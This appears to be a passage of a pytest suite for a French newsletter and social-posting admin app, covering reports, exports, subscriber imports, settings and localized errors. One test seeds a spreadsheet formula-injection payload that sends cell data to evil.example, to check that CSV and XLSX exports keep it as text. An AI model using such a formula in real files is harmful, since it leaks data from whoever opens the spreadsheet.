    page = viewer.get(served.url + "/reports").text
    # Before any table: the sentences of the bilan, each figure the one of its table below.
    key = page.index("Chiffres clés")
    assert key < page.index('data-chart="opens_clicks"')
    # The earlier newsletter was delivered to nobody: a growth with no rate.
    assert (
        "<li>2 newsletters envoyées du 30 mai 2026 au 2 novembre 2026, passant de 0 destinataires"
        " réels à 2 (+2).</li>"
    ) in page
    assert "<li>3 ouvertures des newsletters au total, 2 ouvertures uniques.</li>" in page
    assert "<li>1 clic des newsletters au total, 1 clic unique.</li>" in page  # singular
    row = re.search(r"<tr>\s*<td class=\"text\">Le Mois commence</td>(.*?)</tr>", page, re.S)
    assert row and re.findall(r"<td[^>]*>([^<]*)</td>", row.group(1))[2:4] == ["2", "3"]


def test_an_editor_types_a_follower_count_for_the_reports(served: Served) -> None:
    editor = served.client("editor")
    url = served.url + "/reports"
    page = editor.get(url, params={"date_from": "2016-01-01", "date_to": "2016-12-31"}).text
    assert 'action="/admin/reports/followers"' in page and "Nombre d'abonnés" in page
    token = page_csrf(editor, url)
    form = {"csrf": token, "account": "prix_ess", "followers": "547", "day": "2016-12-31"}
    period = {"date_from": "2016-01-01", "date_to": "2016-12-31"}
    answer = editor.post(url + "/followers", data={**form, **period}, allow_redirects=False)
    assert answer.status_code == 303
    assert answer.headers["location"] == (
        "/admin/reports?date_from=2016-01-01&date_to=2016-12-31&fait=followers-saved"
    )
    shown = editor.get(served.url + answer.headers["location"].removeprefix("/admin")).text
    assert "Le nombre d'abonnés est enregistré" in shown
    # The social table of 2016 uses it (its only count: start and end), marked typed by hand;
    # the list under the form shows what was typed.
    assert '<td class="text">au début et à la fin</td>' in shown
    assert "<li>@Prix_ESS : 547 abonnés au 31 décembre 2016.</li>" in shown
    assert re.search(
        r"<td>@Prix_ESS</td><td>31 décembre 2016</td><td class=\"num\">547</td>", shown
    )
    # Typed again for the same day: corrected, still one row.
    again = editor.post(url + "/followers", data={**form, "followers": "12 345"})
    assert again.status_code == 200 and "12\u202f345" in again.text
    with Session(served.engine) as session:  # type: ignore[arg-type]
        rows = session.exec(select(AccountSnapshot)).all()
    assert [(r.account, r.followers, r.typed) for r in rows] == [("prix_ess", 12345, True)]


@pytest.mark.parametrize(
    ("field", "value", "said"),
    [
        ("followers", "beaucoup", "Le nombre d&#39;abonnés doit être un nombre entier"),
        ("followers", "-3", "Le nombre d&#39;abonnés doit être un nombre entier"),
        ("followers", "6²", "Le nombre d&#39;abonnés doit être un nombre entier"),
        ("day", "2999-01-01", "Le jour doit être une date passée"),
        ("day", "31/12/2016", "Le jour doit être une date passée"),
        ("account", "autre", "Choisissez un des comptes de la liste"),
    ],
)
def test_a_wrong_follower_count_is_refused_in_french(
    served: Served, field: str, value: str, said: str
) -> None:
    editor = served.client("editor")
    token = page_csrf(editor, served.url + "/reports")
    form = {"csrf": token, "account": "mois_ess", "followers": "6103", "day": "2016-12-31"}
    answer = editor.post(served.url + "/reports/followers", data={**form, field: value})
    assert answer.status_code == 400
    assert "Non enregistré" in answer.text and said in answer.text
    assert "Traceback" not in answer.text
    with Session(served.engine) as session:  # type: ignore[arg-type]
        assert session.exec(select(AccountSnapshot)).all() == []


def test_viewers_cannot_type_follower_counts(served: Served) -> None:
    viewer = served.client("viewer")
    page = viewer.get(served.url + "/reports").text
    assert "Abonnés saisis à la main" in page  # what was typed is shown to everyone
    assert 'action="/admin/reports/followers"' not in page
    token = page_csrf(viewer, served.url + "/reports")
    answer = viewer.post(
        served.url + "/reports/followers",
        data={"csrf": token, "account": "mois_ess", "followers": "1", "day": "2016-12-31"},
        allow_redirects=False,
    )
    assert answer.status_code == 403
    with Session(served.engine) as session:  # type: ignore[arg-type]
        assert session.exec(select(AccountSnapshot)).all() == []


def test_reports_download_as_csv_xlsx_and_html_for_viewers_too(served: Served) -> None:
    from io import BytesIO

    from openpyxl import load_workbook

    number = _sent_newsletter(served)
    viewer = served.client("viewer")
    page = viewer.get(served.url + "/reports").text
    assert "/reports/export/bilan?format=html" in page and "format=xlsx" in page
    csv = viewer.get(
        served.url + "/reports/export/newsletters",
        params={"format": "csv", "table": "newsletters", "date_from": "2026-01-01"},
    )
    assert csv.headers["content-type"].startswith("text/csv")
    assert 'filename="newsletters-2026-01-01-newsletters.csv"' in csv.headers["content-disposition"]
    lines = csv.text.splitlines()
    assert lines[0].startswith("Titre,Date,Destinataires,Destinataires réels,Ouvertures,Clics")
    assert lines[2].startswith("Le Mois commence,2026-11-02,3,2,3,1,2,1,1.0,0.5,0.5")
    workbook = viewer.get(
        served.url + "/reports/export/bilan",
        params={"format": "xlsx", "date_from": "2026-01-01", "date_to": "2026-12-31"},
    )
    assert 'filename="bilan-2026.xlsx"' in workbook.headers["content-disposition"]
    sheets = load_workbook(BytesIO(workbook.content)).sheetnames
    assert "Newsletters" in sheets and "Mois par mois" in sheets
    html = viewer.get(served.url + "/reports/export/bilan", params={"format": "html"})
    assert "attachment" in html.headers["content-disposition"]
    assert "<svg" in html.text and "Le Mois commence" in html.text
    several = viewer.get(served.url + "/reports/export/bilan", params={"format": "csv"})
    assert several.status_code == 400
    assert "Un fichier CSV ne contient qu&#39;un tableau et ce rapport en a" in several.text
    links = viewer.get(
        f"{served.url}/reports/newsletters/{number}/export",
        params={"format": "csv", "table": "summary"},
    )
    assert links.text.splitlines()[0].startswith("Date,Destinataires")
    assert viewer.get(served.url + "/reports/export/nothing").status_code == 404
    assert (
        viewer.get(served.url + "/reports/export/bilan", params={"format": "exe"}).status_code
        == 404
    )


def test_report_downloads_keep_a_formula_like_title_as_text(served: Served) -> None:
    import csv
    from io import BytesIO, StringIO

    from openpyxl import load_workbook

    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
    with Session(served.engine) as session:  # type: ignore[arg-type]
        session.add(
            Newsletter(
                title=title,
                subject="S",
                template="mois-ess",
                status=NewsletterStatus.sent,
                sent_at=datetime.fromisoformat("2026-11-03T09:00:00+01:00"),
            )
        )
        session.commit()
    viewer = served.client("viewer")
    url = served.url + "/reports/export/newsletters"
    query = {"table": "newsletters", "date_from": "2026-01-01"}
    answer = viewer.get(url, params={"format": "csv", **query})
    rows = list(csv.reader(StringIO(answer.text)))
    assert rows[1][0] == "'" + title
    answer = viewer.get(url, params={"format": "xlsx", **query})
    cell = load_workbook(BytesIO(answer.content)).active["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (title, "s", True)


def test_pausing_and_resuming_a_newsletter_that_is_sending(served: Served) -> None:
    _people(served)
    with Session(served.engine) as session:  # type: ignore[arg-type]
        newsletter = create_newsletter(
            session,
            title="Novembre",
            subject="Le Mois",
            template="mois-ess",
            list_names=["Newsletter nationale"],
            taxonomy=Taxonomy.from_settings(served.settings),
        )
        assert queue.snapshot(session, newsletter) == 3  # three pending rows, now sending
        session.commit()
        number = newsletter.id
        assert newsletter.status == NewsletterStatus.sending
    editor = served.client("editor")
    show = f"{served.url}/newsletters/{number}"
    assert "Mettre en pause</button>" in editor.get(show).text

    paused = _post(editor, f"{show}/pause", show, {})
    assert paused.status_code == 303
    assert paused.headers["location"].endswith(f"/newsletters/{number}?fait=newsletter-paused")
    with Session(served.engine) as session:  # type: ignore[arg-type]
        assert session.get(Newsletter, number).status == NewsletterStatus.paused
        assert queue.counts(session, number) == {"pending": 3}  # nothing sent, nothing lost
    page = editor.get(f"{show}?fait=newsletter-paused").text
    assert "L'envoi est en pause." in page and "Reprendre l'envoi</button>" in page
    assert "Mettre en pause" not in page
    again = _post(editor, f"{show}/pause", show, {})
    assert again.status_code == 400 and "seule une newsletter en cours d&#39;envoi" in again.text

    resumed = _post(editor, f"{show}/resume", show, {})
    assert resumed.status_code == 303
    assert resumed.headers["location"].endswith(f"/newsletters/{number}?fait=newsletter-resumed")
    with Session(served.engine) as session:  # type: ignore[arg-type]
        assert session.get(Newsletter, number).status == NewsletterStatus.sending
        assert queue.counts(session, number) == {"pending": 3}
    page = editor.get(f"{show}?fait=newsletter-resumed").text
    assert "L'envoi reprend." in page and "Mettre en pause</button>" in page
    assert "Reprendre l'envoi" not in page


def _listed(page: str) -> list[str]:
    """The addresses in the subscribers table, in order."""
    return re.findall(r'<td><a href="/admin/subscribers/\d+">([^<]+)</a></td>', page)


def test_subscribers_are_filtered_by_list_and_by_status(served: Served) -> None:
    with Session(served.engine) as session:  # type: ignore[arg-type]
        for email, lists, status in [
            ("ana@example.org", ["Newsletter nationale"], SubscriberStatus.active),
            ("bob@example.org", ["Réseau breton"], SubscriberStatus.active),
            ("cle@example.org", ["Newsletter nationale", "Réseau breton"], SubscriberStatus.active),
            ("dan@example.org", ["Newsletter nationale"], SubscriberStatus.pending),
            ("eve@example.org", ["Newsletter nationale", "Réseau breton"], SubscriberStatus.active),
        ]:
            add_subscriber(session, email, list_names=lists, status=status, actor="test")
        unsubscribe(session, "cle@example.org", actor="test")  # from everything
        unsubscribe(session, "eve@example.org", actor="test", list_name="Newsletter nationale")
        session.commit()
    viewer = served.client("viewer")

    def found(**filters: str) -> list[str]:
        page = viewer.get(served.url + "/subscribers", params=filters)
        assert page.status_code == 200
        return _listed(page.text)

    # A list's members: eve left it (she stays on the other one), cle left everything.
    assert found(list_name="Newsletter nationale") == [
        "ana@example.org",
        "cle@example.org",
        "dan@example.org",
    ]
    assert found(list_name="Réseau breton") == [
        "bob@example.org",
        "cle@example.org",
        "eve@example.org",
    ]
    assert found(status="active") == ["ana@example.org", "bob@example.org", "eve@example.org"]
    assert found(status="pending") == ["dan@example.org"]
    assert found(status="unsubscribed") == ["cle@example.org"]
    assert found(list_name="Réseau breton", status="active") == [
        "bob@example.org",
        "eve@example.org",
    ]
    assert found(list_name="Newsletter nationale", status="bounced") == []
    page = viewer.get(
        served.url + "/subscribers", params={"list_name": "Réseau breton", "status": "active"}
    ).text
    assert "2 personnes." in page
    assert "<option selected>Réseau breton</option>" in page  # the form shows the filters in force
    assert '<option value="active" selected>' in page


def test_an_xlsx_file_uploaded_through_the_import_form(served: Served, tmp_path: Path) -> None:
    from openpyxl import Workbook

    with Session(served.engine) as session:  # type: ignore[arg-type]
        add_subscriber(
            session, "ana@example.org", list_names=["Newsletter nationale"], actor="test"
        )
        add_subscriber(session, "cle@example.org", actor="test")
        unsubscribe(session, "cle@example.org", actor="test")
        session.commit()
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Courriel", "Prénom", "Nom", "Structure", "Code postal", "Adhérent"])
    sheet.append(["Nina.Martin@Example.org", "Nina", "Martin", "Coop du Rocher", 35000, "oui"])
    sheet.append(["ana@example.org", None, None, "Scop des Landes", None, None])
    sheet.append(["pas-une-adresse", "X", None, None, None, None])
    # A postcode Excel read as a number, losing its leading zero (05000, Gap).
    sheet.append(["cle@example.org", "Clé", None, None, 5000, None])
    path = tmp_path / "abonnes.xlsx"
    workbook.save(path)
    editor = served.client("editor")
    page = served.url + "/subscribers/import"
    with path.open("rb") as handle:
        answer = _post(
            editor,
            page,
            page,
            {"list_name": "Adhérents", "consent_origin": "adhésion 2025"},
            files={"file": ("abonnes.xlsx", handle, XLSX_TYPE)},
        )
    assert answer.status_code == 200, answer.text
    report = answer.text
    assert "Fichier <strong>abonnes.xlsx</strong> : 4 lignes lues." in report
    assert re.search(r"<strong>1</strong> abonnés ajoutés", report)
    assert re.search(r"<strong>2</strong> mis à jour", report)
    assert re.search(r"<strong>1</strong> lignes écartées", report)
    assert re.search(r"<tr><td>4</td><td>pas-une-adresse</td><td>[^<]+</td></tr>", report)
    assert "rien n'est enregistré" not in report

    with Session(served.engine) as session:  # type: ignore[arg-type]
        people = {p.email: p for p in session.exec(select(Subscriber)).all()}
        assert set(people) == {"ana@example.org", "cle@example.org", "nina.martin@example.org"}
        nina = people["nina.martin@example.org"]
        assert (nina.first_name, nina.last_name, nina.organisation) == (
            "Nina",
            "Martin",
            "Coop du Rocher",
        )
        assert (nina.postcode, nina.region, nina.status) == ("35000", "Bretagne", "active")
        assert nina.attributes == {"Adhérent": "oui"}
        assert people["ana@example.org"].organisation == "Scop des Landes"
        cle = people["cle@example.org"]
        assert cle.status == SubscriberStatus.unsubscribed  # an import never brings one back
        assert (cle.postcode, cle.region) == ("05000", "Provence-Alpes-Côte d'Azur")
    # The list holds the people the file added or updated, but not the one who unsubscribed.
    members = editor.get(served.url + "/subscribers", params={"list_name": "Adhérents"}).text
    assert _listed(members) == ["ana@example.org", "nina.martin@example.org"]
    with Session(served.engine) as session:  # type: ignore[arg-type]
        logged = describe_subscriber(session, "nina.martin@example.org")["consent_log"]
    # The consent log says where she came from: the file and its row, and who imported it.
    assert [(line["source"], line["actor"], line["list"]) for line in logged] == [
        ("abonnes.xlsx row 2", "web:editor@example.org", None),
        ("abonnes.xlsx row 2", "web:editor@example.org", "Adhérents"),
    ]


def _table_rows(page: str) -> list[list[str]]:
    """The text of each cell of each row of the page's table body."""
    body = re.search(r"<tbody>(.*?)</tbody>", page, re.S)
    assert body, "a table"
    return [
        [
            re.sub(r"<[^>]+>", "", cell).strip()
            for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
        ]
        for row in re.findall(r"<tr>(.*?)</tr>", body.group(1), re.S)
    ]


SECRETS = {
    "CAMPAIGN_SMTP_PASSWORD": "mot-de-passe-smtp-4f1c",
    "CAMPAIGN_X_MOIS_ESS_CONSUMER_KEY": "cle-consommateur-9a2b",
    "CAMPAIGN_X_MOIS_ESS_CONSUMER_SECRET": "secret-consommateur-7d3e",
    "CAMPAIGN_X_MOIS_ESS_ACCESS_TOKEN": "jeton-acces-5c8f",
    "CAMPAIGN_X_MOIS_ESS_ACCESS_TOKEN_SECRET": "secret-jeton-1b6a",
}


def test_settings_show_the_transport_accounts_and_public_url_but_no_secret(
    serve, secret_key: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    served = serve(
        public_url="http://lemois.example.org",
        mail={
            "transport": "smtp",
            "from_address": "lemois@lemois-ess.org",
            "smtp": {
                "host": "smtp.lemois-ess.org",
                "port": 465,
                "security": "tls",
                "username": "envois-lemois",
            },
        },
    )
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    page = served.client("admin").get(served.url + "/settings").text

    def fact(label: str) -> str:
        found = re.search(rf"<dt>{label}</dt><dd>(.*?)</dd>", page, re.S)
        assert found, label
        return re.sub(r"<[^>]+>", "", found.group(1)).strip()

    assert fact("Mode") == "SMTP (envoi réel)"
    assert fact("Serveur") == "smtp.lemois-ess.org:465 (tls)"
    assert fact("Identifiant") == "envois-lemois"
    assert fact("Mot de passe") == "défini (CAMPAIGN_SMTP_PASSWORD)"
    assert fact("Expéditeur") == "Le Mois de l&#39;ESS &lt;lemois@lemois-ess.org&gt;"
    assert fact("Adresse publique") == "http://lemois.example.org (pas en HTTPS)"
    assert fact("Clé de signature des liens") == "définie"
    accounts = {row[0]: row[1:] for row in _table_rows(page)}
    assert accounts["@Mois_ESS (mois_ess)"] == ["X", "en service", "aucun"]
    assert accounts["@Prix_ESS (prix_ess)"][:2] == ["X", "essai : rien n'est publié"]
    assert "CAMPAIGN_X_PRIX_ESS_ACCESS_TOKEN" in accounts["@Prix_ESS (prix_ess)"][2]
    for value in [*SECRETS.values(), secret_key]:
        assert value not in page


def test_settings_show_urls_without_their_password(serve) -> None:
    served = serve(public_url="http://apercu:s3cr3t@lemois.example.org")
    # The page shows the settings it runs with: here a database URL holding a password.
    served.settings.database.url = "postgresql+psycopg://campaign:hunter2@db.example.org/c"
    page = served.client("admin").get(served.url + "/settings").text
    facts = {
        label: re.sub(r"<[^>]+>", "", value).strip()
        for label, value in re.findall(r"<dt>(.*?)</dt><dd>(.*?)</dd>", page, re.S)
    }
    assert facts["Base de données"] == "postgresql+psycopg://campaign:***@db.example.org/c"
    assert facts["Adresse publique"] == "http://apercu:***@lemois.example.org (pas en HTTPS)"
    assert "hunter2" not in page and "s3cr3t" not in page
    # The page's title is its name (a merge once put the admins' section inside it).
    assert re.search(r"<title>(.*?)</title>", page, re.S).group(1) == "Réglages · Mois de l'ESS"
    assert page.count("Connexions au tableau de bord") == 1


def test_the_newsletters_list_shows_each_status_and_the_headline_figures(served: Served) -> None:
    _sent_newsletter(served)  # 3 addressed, 2 delivered, 3 human opens, 1 human click
    with Session(served.engine) as session:  # type: ignore[arg-type]
        taxonomy = Taxonomy.from_settings(served.settings)
        sending = create_newsletter(
            session,
            title="Décembre",
            subject="S",
            template="mois-ess",
            list_names=["Newsletter nationale"],
            taxonomy=taxonomy,
        )
        queue.snapshot(session, sending)  # three rows queued, none sent yet
        queue.pause(session, sending.id)  # type: ignore[arg-type]
        create_newsletter(
            session,
            title="Brouillon de janvier",
            subject="S",
            template="mois-ess",
            list_names=["Newsletter nationale"],
            taxonomy=taxonomy,
        )
        session.commit()
        started = sending.sent_at.astimezone(served.settings.zone).strftime("%d/%m/%Y %H:%M")
    page = served.client("viewer").get(served.url + "/newsletters").text
    head = re.findall(r'<th scope="col"[^>]*>([^<]+)</th>', page)
    assert head == [
        "Titre",
        "Statut",
        "Date",
        "Destinataires",
        "Destinataires réels",
        "Ouvertures",
        "Clics",
    ]
    rows = {row[0]: row[1:] for row in _table_rows(page)}
    assert rows == {
        "Le Mois commence": ["envoyé", "02/11/2026 09:00", "3", "2", "3", "1"],
        "Les Prix ESS : dernière ligne droite": ["envoyé", "30/05/2026 09:00", "0", "0", "0", "0"],
        "Décembre": ["en pause", started, "3", "0", "0", "0"],
        "Brouillon de janvier": ["brouillon", "", "0", "0", "0", "0"],
    }


def test_the_post_preview_is_headed_by_the_chosen_account_s_handle(served: Served) -> None:
    editor = served.client("editor")
    long = "Une phrase assez longue pour remplir un message. " * 12

    def handles(account: str, **extra: str) -> list[str]:
        fragment = editor.get(
            served.url + "/posts/length", params={"text": long, "account": account, **extra}
        ).text
        return re.findall(r'<p class="handle">([^<]*)</p>', fragment)

    assert handles("prix_ess", split="1") == [f"@Prix_ESS · {n}/3" for n in (1, 2, 3)]
    assert handles("mois_ess") == ["@Mois_ESS"]
    created = _post(
        editor,
        served.url + "/posts/new",
        served.url + "/posts/new",
        {"account": "prix_ess", "text": "Votez pour les Prix ESS"},
    )
    page = editor.get(served.url + created.headers["location"].removeprefix("/admin")).text
    assert re.findall(r'<p class="handle">([^<]*)</p>', page) == ["@Prix_ESS"]
    assert "Publication @Prix_ESS" in page and "@Mois_ESS" not in page


def test_moving_an_event_post_on_the_calendar_writes_it_again_or_refuses_in_french(
    served: Served,
) -> None:
    from campaign.social.compose import event_post_text

    settings = served.settings
    starts = _local(served, 3, 18, 30)
    with Session(served.engine) as session:  # type: ignore[arg-type]
        event = Event(
            source_id="E-MOVE",
            title="Forum des coopératives",
            starts_at=starts,
            city="Rennes",
            region="Bretagne",
        )
        session.add(event)
        session.commit()
        first = _local(served, 2, 9, 0)
        text = event_post_text(event, first, settings).text
        assert text.startswith("Demain à 18h30, Rennes")
        post = create_post(
            session,
            settings,
            account="mois_ess",
            text=text,
            scheduled_at=first,
            event_ids=[event.id],
            template="evenement",
        )
        post_id = post.id
    editor = served.client("editor")
    calendar = f"{served.url}/calendar?day={first.date().isoformat()}"

    def move(to: datetime):  # type: ignore[no-untyped-def]
        return _post(
            editor,
            served.url + "/calendar/move",
            calendar,
            {
                "kind": "post",
                "item_id": str(post_id),
                "at": _field(to),
                "day": to.date().isoformat(),
            },
        )

    # The next day, the event's own day: written again for it.
    on_the_day = _local(served, 3, 9, 0)
    assert move(on_the_day).status_code == 303
    with Session(served.engine) as session:  # type: ignore[arg-type]
        moved = session.get(Post, post_id)
        assert moved.scheduled_at == on_the_day
        assert moved.text.startswith("Aujourd'hui à 18h30, Rennes : Forum des coopératives")
        assert moved.parts == [moved.text]
        kept = (moved.text, moved.scheduled_at)

    # The day after, the event is over: refused in French next to the post, which keeps its time.
    refused = move(_local(served, 4, 9, 0))
    assert refused.status_code == 400
    item = re.search(
        rf'data-id="{post_id}".*?</a>\s*<p class="error refusal"[^>]*>(.*?)</p>', refused.text, re.S
    )
    assert item is not None, refused.text
    assert "Déplacement refusé" in item.group(1) and "Forum des coopératives" in item.group(1)
    assert "sera terminé" in item.group(1)
    with Session(served.engine) as session:  # type: ignore[arg-type]
        again = session.get(Post, post_id)
        assert (again.text, again.scheduled_at) == kept

    # Edited by hand: never rewritten; the move is refused, telling to give the text with it.
    with Session(served.engine) as session:  # type: ignore[arg-type]
        from campaign.social.posts import edit_post

        edit_post(session, settings, post_id, text="Ce soir à Rennes, le forum ! #MoisESS")
    refused = move(_local(served, 2, 12, 0))
    assert refused.status_code == 400 and "modifié à la main" in refused.text
    with Session(served.engine) as session:  # type: ignore[arg-type]
        again = session.get(Post, post_id)
        assert again.text == "Ce soir à Rennes, le forum ! #MoisESS"
        assert again.scheduled_at == on_the_day
    page = f"{served.url}/posts/{post_id}"
    together = _post(
        editor,
        f"{page}/edit",
        page,
        {"text": "Demain soir à Rennes, le forum ! #MoisESS", "at": _field(_local(served, 2, 12))},
    )
    assert together.status_code == 303
    with Session(served.engine) as session:  # type: ignore[arg-type]
        again = session.get(Post, post_id)
        assert again.text == "Demain soir à Rennes, le forum ! #MoisESS"
        assert again.scheduled_at == _local(served, 2, 12)


def test_x_refusals_a_person_can_act_on_are_worded_in_french(served: Served) -> None:
    """A 402 (credits spent) and a refused reply, as the posting stage records them."""
    retry_at = _local(served, 1, 10, 30)
    spent = str(out_of_credits("Mois_ESS", "publish a post", False, retry_at - CREDITS_WAIT))
    refused = (
        f"@Mois_ESS: {REPLY_REFUSED}: Reply to this conversation is not allowed because you have "
        "not been mentioned or otherwise engaged by the author of the post you are replying to "
        "(403)."
    )
    with Session(served.engine) as session:  # type: ignore[arg-type]
        ids = []
        for text, status, error, remote_ids in [
            ("Crédits épuisés", PostStatus.scheduled, spent, []),
            ("Un fil\n---\nSa suite", PostStatus.failed, refused, ["1001"]),
        ]:
            post = create_post(
                session, served.settings, account="mois_ess", text=text,
                scheduled_at=_local(served, 1), now=_local(served, -1),
            )  # fmt: skip
            post.status, post.last_error, post.remote_ids = status, error, remote_ids
            post.not_before = retry_at if status == PostStatus.scheduled else None
            session.add(post)
            session.commit()
            ids.append(post.id)
    viewer = served.client("viewer")
    first = viewer.get(f"{served.url}/posts/{ids[0]}").text
    assert (
        "Dernière erreur : Plus de crédits X : rechargez le compte développeur. Nouvel essai "
        f"automatique après le {retry_at:%d/%m/%Y %H:%M}."
    ) in first
    assert "API credits are exhausted" not in first
    second = viewer.get(f"{served.url}/posts/{ids[1]}").text
    assert "Dernière erreur : X a refusé cette réponse du fil" in second
    assert "Les parties déjà publiées restent sur X" in second
    assert "Reply to this conversation" not in second
    day = retry_at.date().isoformat()
    week = viewer.get(f"{served.url}/calendar?view=week&day={day}").text
    assert 'title="Plus de crédits X : rechargez le compte développeur.' in week


def test_a_post_the_service_will_try_again_says_so_in_french(
    served: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A network that does not answer: the posting stage schedules another try by itself."""
    import socket

    with socket.socket() as probe:  # a port nobody listens on
        probe.bind(("127.0.0.1", 0))
        closed = probe.getsockname()[1]
    monkeypatch.setenv("CAMPAIGN_MASTODON_TEST_TOKEN", "tok")
    served.settings.social.accounts["mois_masto"] = SocialAccount(
        network="mastodon",
        handle="moisess",
        instance_url=f"http://127.0.0.1:{closed}",
        access_token_env="CAMPAIGN_MASTODON_TEST_TOKEN",
    )
    with Session(served.engine) as session:  # type: ignore[arg-type]
        post = create_post(session, served.settings, account="mois_masto", text="Bonjour")
        with pytest.raises(TransportError):
            publish_post(
                session,
                post.id,
                served.settings,
                transport=transport_for(served.settings, "mois_masto", retries=0),
            )
        session.refresh(post)
        assert post.status == PostStatus.scheduled and post.not_before is not None
        retry_at = post.not_before.astimezone(ZoneInfo("Europe/Paris"))
    page = served.client("viewer").get(f"{served.url}/posts/{post.id}").text
    assert (
        "Le réseau n'a pas répondu ou était en panne ; nouvel essai automatique après le "
        f"{retry_at:%d/%m/%Y %H:%M}."
    ) in page
    assert 'aria-label="Aperçu sur Mastodon"' in page and "7 / 500" in page
    assert "Coût estimé chez X" not in page  # Mastodon bills nothing


def test_the_form_chooses_what_readers_without_events_get_and_the_live_panel_names_them(
    served: Served,
) -> None:
    with Session(served.engine) as session:  # type: ignore[arg-type]
        regions_sample.seed(session)
    editor = served.client("editor")
    first, last = regions_sample.window()
    rule = {
        "lists": regions_sample.LIST,
        "events_from": first.isoformat(),
        "events_to": last.isoformat(),
        "events_regions": "subscriber",
    }
    new_page = served.url + "/newsletters/new"
    form_page = editor.get(new_page).text
    assert 'name="when_no_events" value="national" checked' in form_page  # the default
    assert "Ne pas leur envoyer la newsletter" in form_page

    live = editor.get(
        served.url + "/newsletters/live", params={**rule, "when_no_events": "skip"}
    ).text
    assert "Corse : 0 évènement, 3 lecteurs" in live
    assert "la newsletter ne leur sera pas envoyée" in live
    assert re.search(r"<strong>2</strong> lecteurs ont une région inconnue", live)
    assert "« Bretagne 29 » : 2 lecteurs" in live
    assert re.search(r'data-check="over"><strong>2</strong> évènements de la sélection', live)
    assert "Bretagne : 0" not in live

    form = {"title": "Novembre", "subject": "Le Mois", "template": "mois-ess", **rule}
    refused = _post(editor, new_page, new_page, {**form, "when_no_events": "text"})
    assert refused.status_code == 400 and "mais ce texte est vide" in refused.text
    created = _post(
        editor,
        new_page,
        new_page,
        {**form, "when_no_events": "text", "no_events_text": "Rien près de chez vous."},
    )
    assert created.status_code == 303
    number = int(re.search(r"/newsletters/(\d+)", created.headers["location"]).group(1))
    show = editor.get(f"{served.url}/newsletters/{number}").text
    assert "un texte à la place des évènements : « Rien près de chez vous. »" in show

    edit_page = f"{served.url}/newsletters/{number}/edit"
    assert 'name="when_no_events" value="text" checked' in editor.get(edit_page).text
    edited = _post(editor, edit_page, edit_page, {**form, "when_no_events": "nearest"})
    assert edited.status_code == 303
    with Session(served.engine) as session:  # type: ignore[arg-type]
        newsletter = session.get(Newsletter, number)
        assert newsletter is not None and newsletter.when_no_events == "nearest"
    assert (
        "les évènements des régions voisines"
        in editor.get(f"{served.url}/newsletters/{number}").text
    )


def test_a_linkedin_token_ending_soon_or_refused_is_said_in_french(
    served: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The banner on every page from 7 days before token_expires; a refused token on a post."""
    from campaign.social.linkedin import LinkedInTransport

    soon = datetime.now(ZoneInfo("UTC")).date() + timedelta(days=4)
    served.settings.social.accounts["mois_li"] = SocialAccount(
        network="linkedin",
        handle="mois-ess",
        organization_id="2414183",
        access_token_env="CAMPAIGN_LINKEDIN_TEST_TOKEN",
        token_expires=soon,
    )
    viewer = served.client("viewer")
    page = viewer.get(f"{served.url}/posts").text
    assert "@mois-ess (LinkedIn) : le jeton d&#39;accès expire le" in page
    assert "dans 4 jours : demandez à l&#39;administrateur de le renouveler." in page
    settings_page = served.client("admin").get(f"{served.url}/settings").text
    accounts = {row[0]: row[1:] for row in _table_rows(settings_page)}
    network, state, missing = accounts["@mois-ess (mois_li)"]
    assert network == "LinkedIn" and missing == "CAMPAIGN_LINKEDIN_TEST_TOKEN"
    assert state.startswith("essai : rien n'est publié") and "dans 4 jours" in state
    refusal = LinkedInTransport("mois-ess", "2414183", "t", token_env="X_TOKEN")._refuse(
        "linkedin.token_refused", reason="The token used in the request has expired"
    )
    with Session(served.engine) as session:  # type: ignore[arg-type]
        post = create_post(
            session, served.settings, account="mois_li", text="Bonjour",
            scheduled_at=_local(served, 1), now=_local(served, -1),
        )  # fmt: skip
        post.status, post.last_error = PostStatus.failed, str(refusal)
        session.add(post)
        session.commit()
        post_id = post.id
    shown = viewer.get(f"{served.url}/posts/{post_id}").text
    assert "Le jeton d'accès LinkedIn a été refusé ou a expiré" in shown
    editor = served.client("editor")
    thread = {"text": "Premier.\n---\nSecond.", "account": "mois_li", "thread": "1"}
    fragment = editor.get(served.url + "/posts/length", params=thread).text
    assert "<strong>17</strong> / 3000 caractères (selon LinkedIn)" in fragment
    long = {"text": "Une phrase. " * 300, "account": "mois_li", "split": "1"}
    fragment = editor.get(served.url + "/posts/length", params=long).text
    assert "LinkedIn n'a pas de fils, raccourcissez-le" in fragment
    assert "Détail : mois-ess (LinkedIn page 2414183): LinkedIn refused" in shown
